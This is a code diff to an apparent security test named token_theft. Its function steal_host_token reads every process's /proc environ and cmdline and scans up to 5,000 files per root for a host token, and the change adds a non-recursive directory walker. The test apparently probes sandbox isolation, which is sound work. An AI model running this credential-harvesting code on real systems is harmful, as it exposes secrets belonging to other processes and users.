@@ -23,7 +23,7 @@ def steal_host_token(roots: list[str], url: str) -> dict[str, Any]:
     found: set[bytes] = set()
     read = {"environ": 0, "cmdline": 0, "files": 0}
     paths = [(k, f) for k in ("environ", "cmdline") for f in glob.glob(f"/proc/[0-9]*/{k}")]
-    paths += [("files", f) for root in roots for f in glob.glob(f"{root}/**", recursive=True)[:5000]]
+    paths += [("files", f) for root in roots for f in _files(root, 5000)]
     for kind, path in paths:
         try:
             with open(path, "rb") as fh:
@@ -46,3 +46,27 @@ def steal_host_token(roots: list[str], url: str) -> dict[str, Any]:
 
 if __name__ == "__main__":  # python -m tests.token_theft URL ROOT...
     print(json.dumps(steal_host_token(sys.argv[2:], sys.argv[1])))
+
+
+def _files(root: str, limit: int) -> list[str]:
+    """Up to ``limit`` paths under ``root``, walked with a stack of its own: the pool's data dirs can
+    hold trees deeper than Python's recursion limit (a slot's nested directories, a trash not yet
+    emptied), where a recursive glob or ``os.walk`` (3.11) raises instead of reading."""
+    import os
+
+    out: list[str] = []
+    stack = [root]
+    while stack and len(out) < limit:
+        top = stack.pop()
+        try:
+            entries = list(os.scandir(top))
+        except OSError:
+            continue
+        for entry in entries:
+            out.append(entry.path)
+            try:
+                if entry.is_dir(follow_symlinks=False):
+                    stack.append(entry.path)
+            except OSError:
+                pass
+    return out[:limit]
